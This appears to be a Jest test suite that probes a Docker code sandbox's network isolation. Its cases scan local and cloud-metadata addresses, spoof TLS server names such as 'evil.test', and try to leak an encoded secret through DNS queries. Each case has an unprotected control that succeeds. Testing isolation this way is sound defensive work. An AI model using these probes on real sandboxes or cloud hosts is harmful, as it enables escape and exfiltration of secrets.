import { execFile } from 'node:child_process';
import { createSocket, type Socket as Datagrams } from 'node:dgram';
import { once } from 'node:events';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { createServer as createTlsServer } from 'node:tls';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect } from '@jest/globals';
import { networkAt } from '../../src/adapters/docker/network.js';
import { networkName, sandboxName } from '../../src/adapters/docker/owner-labels.js';
import { attack, CannotBeTried } from '../support/attack.js';
import { makeRunId, makeSignals, type EngineWorld } from '../support/engine-run.js';
import { egress, HOST, NOTHING, openIsolated, PRELUDE } from '../support/isolated.js';

const execute = promisify(execFile);
const place = openIsolated();
const { ask, askWithout, makeNetwork } = place;
let world: EngineWorld;

let host: Server;
let port: number;
let connections = 0;
let tls: Server;
let tlsPort: number;
let names: Datagrams | null;
const asked: string[] = [];

async function openTls(): Promise<Server> {
  const folder = await mkdtemp(join(tmpdir(), 'sjs-tls-'));
  const [key, cert] = [join(folder, 'key.pem'), join(folder, 'cert.pem')];
  await execute('openssl', [
    ...['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes'],
    ...['-keyout', key, '-out', cert, '-days', '1', '-subj', '/CN=api.test'],
  ]);
  const options = { key: await readFile(key), cert: await readFile(cert) };
  await rm(folder, { recursive: true });
  return createTlsServer(options, (socket) => {
    connections += 1;
    socket.on('error', () => undefined).end('secret');
  });
}

const portOf = async (server: Server): Promise<number> => {
  server.listen(0, '0.0.0.0');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
};

/** A name server of this machine, to which a leaking resolver would bring its questions. */
async function openNames(): Promise<Datagrams | null> {
  const socket = createSocket('udp4');
  socket.on('message', (message) => void asked.push(message.toString('latin1')));
  try {
    socket.bind(53, HOST);
    await once(socket, 'listening');
    return socket;
  } catch {
    return null;
  }
}

beforeAll(async () => {
  world = place.world;
  host = createServer((socket) => {
    connections += 1;
    socket.on('error', () => undefined).end('host');
  });
  port = await portOf(host);
  tls = await openTls();
  tlsPort = await portOf(tls);
  names = await openNames();
}, 60_000);
afterAll(() => {
  host.close();
  tls.close();
  names?.close();
});

/** Every address on the network that the code runs on, and on this machine. */
const everywhere = (): string => {
  const own = Object.values(networkInterfaces())
    .flatMap((addresses) => addresses ?? [])
    .filter(({ internal }) => !internal)
    .map(({ address }) => address);
  return `(() => {
    const own = Object.values(os.networkInterfaces()).flat().find(({ internal }) => !internal).address.split('.');
    const first = Number(own[3]) & 240;
    const near = Array.from({ length: 14 }, (_, at) => [...own.slice(0, 3), first + 1 + at].join('.')).filter((address) => address !== own.join('.'));
    return [...near, ...${JSON.stringify([...own, HOST, '169.254.169.254', '169.254.170.2', '100.100.100.200'])}];
  })()`;
};
const SCAN = (): string =>
  `Promise.all(${everywhere()}.map((address) => connect(address, ${port}))).then(say)`;
const unique = (answers: readonly string[]): string => [...new Set(answers)].sort().join(', ');

attack(
  'N14',
  async () => {
    const before = connections;
    const answers = await ask<string[]>(NOTHING, SCAN());
    expect(answers).not.toContain('host');
    expect(answers).not.toContain('ECONNREFUSED');
    expect(connections).toBe(before);
    return `${answers.length} addresses: ${unique(answers)}; the host accepted nothing`;
  },
  async () => {
    // The last subnet of the range, where runs have theirs too.
    const { subnet } = networkAt(makeRunId(), 4094);
    const network = await makeNetwork('--internal', '--subnet', subnet);
    const answers = await askWithout<string[]>(['--network', network], SCAN());
    expect(answers[0]).toBe('host');
    return 'the host answers at the bridge’s own address';
  },
);

attack(
  'N11',
  async () => {
    const secure = secureTo();
    const before = connections;
    const spellings = ['evil.test', 'API.test', 'api.test.', 'xn--api.test', 'api', '', 'sub.api.test'];
    const answers = await ask<string[]>(
      egress('api.test', tlsPort),
      `${secure}Promise.all([...${JSON.stringify(spellings)}.map((name) => secureTo(name)), connect('api.test', ${tlsPort}), connect('api.test', ${port})]).then(say)`,
    );
    expect(answers.slice(0, spellings.length)).toEqual(spellings.map(() => 'refused'));
    expect(answers).not.toContain('host');
    expect(answers).not.toContain('secret');
    const passed = await ask<string>(egress('api.test', tlsPort), `${secure}secureTo('api.test').then(say)`);
    expect(passed).toBe('secret');
    expect(connections - before).toBeLessThanOrEqual(2);
    return `${spellings.length} server names refused; the declared one passes`;
  },
  async () => {
    const secure = secureTo();
    const answer = await askWithout<string>(
      ['--add-host', `api.test:${HOST}`],
      `${secure}secureTo('evil.test').then(say)`,
    );
    expect(answer).toBe('secret');
    return 'the server answers to any name';
  },
);

/** `secureTo(name)`: what a TLS connection to the declared name says under a server name. */
function secureTo(): string {
  return `const secureTo = (servername) => new Promise((done) => {
    const socket = tls.connect({ host: 'api.test', port: ${tlsPort}, servername, rejectUnauthorized: false });
    let text = '';
    socket.on('data', (data) => { text += data }).on('error', () => done('refused')).on('close', () => done(text || 'refused'));
  });`;
}

const LOOKUPS = (name: string): string => `(async () => {
  const answers = [];
  const attempt = (promise) => promise.then(() => 'resolved', ({ code }) => code);
  answers.push(await attempt(dns.promises.lookup('${name}')), await attempt(dns.promises.resolveTxt('${name}')));
  const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
  resolver.setServers(['${HOST}']);
  answers.push(await attempt(resolver.resolve4('${name}')));
  const socket = dgram.createSocket('udp4');
  answers.push(await new Promise((done) => socket.on('error', ({ code }) => done(code)).send('${name}', 53, '${HOST}', (error) => { socket.close(); done(error ? error.code : 'sent') })));
  say(answers);
})()`;

attack(
  'N15',
  async () => {
    if (names === null) throw new CannotBeTried(`port 53 of ${HOST} is taken`);
    asked.length = 0;
    const name = 'c2VjcmV0.leak.test';
    const alone = await ask<string[]>(NOTHING, LOOKUPS(name));
    const withGateway = await ask<string[]>(egress('api.test', port), LOOKUPS(name));
    expect([...alone, ...withGateway]).not.toContain('resolved');
    expect([alone[3], withGateway[3]]).toEqual(['EPERM', 'EPERM']);
    expect(asked).toEqual([]);
    return `lookups: ${unique([...alone, ...withGateway])}; no question left`;
  },
  async () => {
    if (names === null) throw new CannotBeTried(`port 53 of ${HOST} is taken`);
    const network = await makeNetwork('--subnet', networkAt(makeRunId(), 4093).subnet);
    await askWithout(['--network', network, '--dns', HOST], LOOKUPS('c2VjcmV0.leak.test'));
    expect(asked.join()).toContain('c2VjcmV0');
    return `${asked.length} questions arrived, the secret in them`;
  },
);

const LISTEN = `net.createServer((socket) => socket.end('other')).listen(8080, '0.0.0.0', () => console.log(Object.values(os.networkInterfaces()).flat().find(({ internal }) => !internal).address)); setTimeout(() => {}, 30000)`;

attack(
  'N16',
  async () => {
    const abort = new AbortController();
    let heard: (address: string) => void = () => undefined;
    const address = new Promise<string>((resolve) => (heard = resolve));
    const other = world.run(
      { network: NOTHING, code: `${PRELUDE}${LISTEN}` },
      {
        signals: makeSignals(abort.signal),
        onStdout: (chunk) => heard(Buffer.from(chunk).toString().trim()),
      },
    );
    const where = await Promise.race([address, other.then(() => 'ended')]);
    const answer = await ask<string>(NOTHING, `connect('${where}', 8080).then(say)`);
    abort.abort();
    await other;
    expect(answer).toBe('ENETUNREACH');
    return `${answer}: there is no way from one network to another`;
  },
  async () => {
    const network = await makeNetwork('--internal', '--subnet', networkAt(makeRunId(), 4092).subnet);
    const code = `${PRELUDE}${LISTEN}`;
    const { stdout } = await execute('docker', [
      'run',
      '-d',
      '--network',
      network,
      world.imageId,
      'node',
      '-e',
      code,
    ]);
    const id = stdout.trim();
    try {
      const format = '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}';
      const found = await execute('docker', ['inspect', '--format', format, id]);
      const patiently = `(async () => { for (let n = 0; ; n++) { const answer = await connect('${found.stdout.trim()}', 8080); if (answer !== 'ECONNREFUSED' || n > 50) return say(answer); await new Promise((done) => setTimeout(done, 100)); } })()`;
      expect(await askWithout<string>(['--network', network], patiently)).toBe('other');
    } finally {
      await execute('docker', ['rm', '-f', id]);
    }
    return 'two on one network reach each other';
  },
);

attack(
  'N13',
  async () => {
    const runId = makeRunId();
    const abort = new AbortController();
    const running = world.run(
      {
        network: egress('api.test', port),
        code: `${PRELUDE}net.connect(${port}, 'api.test').on('connect', () => console.log('up')).on('error', () => {}); setInterval(() => {}, 1000)`,
      },
      { runId, signals: makeSignals(abort.signal), onStdout: () => abort.abort() },
    );
    await running;
    const { stdout } = await execute('docker', [
      'network',
      'ls',
      '-q',
      '--filter',
      `name=${networkName(runId)}`,
    ]);
    expect(stdout).toBe('');
    const { stdout: left } = await execute('docker', ['ps', '-aq', '--filter', `name=${sandboxName(runId)}`]);
    expect(left).toBe('');
    return 'sandbox, gateway and network are gone';
  },
  async () => {
    const network = await makeNetwork('--internal', '--subnet', networkAt(makeRunId(), 4091).subnet);
    const { stdout } = await execute('docker', [
      'run',
      '-d',
      '--network',
      network,
      world.imageId,
      'node',
      '-e',
      'setInterval(() => {}, 1000)',
    ]);
    try {
      const removing = execute('docker', ['network', 'rm', network]);
      await expect(removing).rejects.toMatchObject({ stderr: expect.stringMatching(/active endpoints/) });
    } finally {
      await execute('docker', ['rm', '-f', stdout.trim()]);
    }
    return 'the engine does not remove a network with active endpoints';
  },
);
